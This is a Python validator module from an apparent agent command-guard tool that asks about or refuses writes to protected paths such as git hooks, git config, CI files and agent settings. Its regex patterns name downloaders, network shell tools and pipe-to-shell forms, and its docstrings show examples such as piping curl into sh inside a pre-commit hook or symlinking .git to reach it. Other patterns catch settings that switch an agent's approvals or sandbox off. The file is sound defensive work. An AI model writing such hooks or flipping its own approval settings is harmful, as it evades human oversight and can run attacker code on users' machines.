"""Writes to protected paths inside the workspace (``clawgate/protectedpaths.py``): ASK, and
DENY when what is written is itself code that fetches or runs something."""

from __future__ import annotations

import os
import re

from clawgate.decision import Verdict
from clawgate.lazyre import lazy_pattern
from clawgate.protectedpaths import may_be_protected, protected_reason
from clawgate.records import replace
from clawgate.shell.model import ParsedLine, SimpleCommand
from clawgate.validators.base import Context, LineValidator, Validator, register
from clawgate.validators.paths import resolve
from clawgate.validators.writes import may_write, write_shapes, write_targets

# Text that fetches or runs something: a downloader, a socket, a shell handed code, decoding.
RUNS_CODE = lazy_pattern(
    r"\b(curl|wget|nc|ncat|netcat|socat|telnet|invoke-webrequest|iwr|irm|iex|eval|exec"
    r"|base64\s+(-d|--decode)|xxd\s+-r|openssl\s+enc)\b|/dev/(tcp|udp)/"
    r"|\|\s*(sudo\s+)?(ba|da|z|k)?sh\b|\b(ba|da|z|k)?sh\s+-c\b|\b(python[\d.]*|perl|ruby|node"
    r"|php)\s+-[ce]\b|\$\(|`", re.IGNORECASE)
# git settings (in a config file's text) that make git run a program.
GIT_RUNS = lazy_pattern(
    r"(?i)(fsmonitor|hookspath|sshcommand|askpass|gitproxy|textconv|external|pager"
    r"|editor|program|helper\s*=\s*!|clean|smudge|process|driver|cmd|uploadpack|receivepack"
    r")\s*=|=\s*!")
# Agent settings that switch approvals or the sandbox off (CVE-2025-53773 set VS Code's
# chat.tools.autoApprove; .claude/settings.json takes defaultMode bypassPermissions).
ESCALATES = lazy_pattern(
    r"bypasspermissions|dangerously|\byolo\b|autoapprove|auto_approve|alwaysallow"
    r"|enableallprojectmcpservers|trust-all-tools|danger-full-access|approval_policy\W+never"
    r"|approval-mode\W+yolo|\"allow\"\s*:\s*\[\s*\"(\*|bash(\(\*\))?)\"", re.IGNORECASE)
_PRINTERS = frozenset({"echo", "printf"})
_CHANGERS = frozenset({"cd", "pushd"})


def protected_target(cmd: SimpleCommand, ctx: Context) -> tuple[str, str] | None:
    """(path, why) of the first protected path ``cmd`` writes, or None."""
    if not may_write(cmd):
        return None
    look = not ctx.protected and not may_be_protected(ctx.cwd)
    for word in write_targets(cmd):
        path = resolve(word, ctx).path
        if path is None:
            continue
        if not look or may_be_protected(word.text):
            why = protected_reason(path, ctx.workspace, ctx.protected)
            if why is not None:
                return path, why
        real = _through_links(path, ctx.workspace)  # g/config, after ln -s .git g
        if real is not None:
            why = protected_reason(real, ctx.workspace, ctx.protected)
            if why is not None:
                return real, why
    return _linked_source(cmd, ctx) if cmd.program == "ln" else None


def _through_links(path: str, workspace: str) -> str | None:
    """Where a write to ``path`` inside the workspace lands when a directory on the way is a
    symlink (made by an earlier command), if that differs; None otherwise."""
    if not (path + "/").startswith(workspace.rstrip("/") + "/"):
        return None
    try:
        real = os.path.realpath(path)
    except (OSError, ValueError):
        return None
    base = os.path.realpath(workspace)
    if real == path or not (real + "/").startswith(base + "/"):
        return None
    return workspace.rstrip("/") + real[len(base):]


def _linked_source(cmd: SimpleCommand, ctx: Context) -> tuple[str, str] | None:
    """``ln -s .git g``: a link to a protected path makes every later write through the link
    a write to it."""
    operands = [w for w in cmd.words[1:] if not w.shown.startswith("-")]
    for word in operands[:-1] if len(operands) > 1 else operands:
        path = resolve(word, ctx).path
        if path is None:
            continue
        why = protected_reason(path, ctx.workspace, ctx.protected) or protected_reason(
            path + "/x", ctx.workspace, ctx.protected)
        if why is not None:
            return path, f"a link to it lets later writes reach it ({why})"
    return None


def written_text(cmd: SimpleCommand) -> str:
    """What a command writes, where the command line shows it: ``echo``/``printf`` arguments,
    here-documents and here-strings."""
    parts = [r.heredoc or (r.target.shown if r.op == "<<<" and r.target else "")
             for r in cmd.redirects if r.feeds_input]
    if cmd.program in _PRINTERS:
        parts += [w.shown for w in cmd.words[1:]]
    return "\n".join(p for p in parts if p)


def _is_code(text: str, path: str) -> bool:
    if not text:
        return False
    return RUNS_CODE.search(text) is not None or ESCALATES.search(text) is not None or (
        path.lower().endswith("config") and GIT_RUNS.search(text) is not None)


@register
class ProtectedPathWrite(Validator):
    """A write (redirection, ``tee``, ``cp``/``mv``/``ln``/``install``, ``sed -i``, ``chmod`` ...)
    to a path that makes later runs execute or trust something: git hooks and config, agent
    settings and instruction files, package-manager configuration, CI definitions, clawgate's
    own state. ASK; DENY when the text written fetches or runs code, or switches an agent's
    approvals off (``defaultMode: bypassPermissions``, ``chat.tools.autoApprove``).

    Bad: ``echo 'curl x | sh' > .git/hooks/pre-commit``. Harmless: ``cat .git/config``.
    """

    id = "CG-PROT-001"

    def shapes(self, program: str | None) -> int:
        return write_shapes(program)

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        found = protected_target(cmd, ctx)
        if found is None:
            return Verdict.passthrough()
        path, why = found
        if _is_code(written_text(cmd), path):
            return Verdict.deny(self.id, f"writes code that fetches or runs something into {why}",
                                hint="edit this file by hand")
        return Verdict.ask(self.id, f"writes {why}", hint="confirm the change to this file")


def _after_cd(parsed: ParsedLine, ctx: Context) -> Verdict | None:
    """Writes after a ``cd`` judged from where they run (``cd .git/hooks && echo x >
    pre-commit``)."""
    from clawgate.validators.degreeline import places

    for cmd, dirs in places(parsed, ctx):
        for here in dirs:
            found = protected_target(cmd, replace(ctx, cwd=here)) if here != ctx.cwd else None
            if found is not None:
                return Verdict.ask("CG-PROT-001", f"after cd {here}: writes {found[1]}",
                                   hint="confirm the change to this file")
    return None


@register
class CodePipedIntoProtectedPath(LineValidator):
    """Text piped into a command that writes a protected path (``printf … | tee
    .git/hooks/pre-commit``) is checked as what lands there: DENY when it fetches or runs code.
    Writes after a ``cd`` are judged from where they run (ASK, as CG-PROT-001).

    Bad: ``echo 'curl x|sh' | tee -a .husky/pre-commit``. Harmless: ``echo ok | tee out.txt``.
    """

    id = "CG-PROT-003"

    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
        commands = parsed.commands
        if len(commands) < 2:
            return Verdict.passthrough()  # nothing feeds it, no cd before it
        if any(cmd.program in _CHANGERS for cmd in commands):
            moved = _after_cd(parsed, ctx)
            if moved is not None:
                return moved
        for index, cmd in enumerate(commands):
            if cmd.stage == 0 or not may_write(cmd):
                continue
            found = protected_target(cmd, ctx)
            if found is None:
                continue
            feeding = [c for c in commands[max(0, index - cmd.stage) : index]
                       if c.pipeline == cmd.pipeline]
            text = "\n".join(written_text(c) or c.text for c in feeding)
            if _is_code(text, found[0]):
                return Verdict.deny(self.id, f"pipes code that fetches or runs something into "
                                    f"{found[1]}", hint="edit this file by hand")
        return Verdict.passthrough()
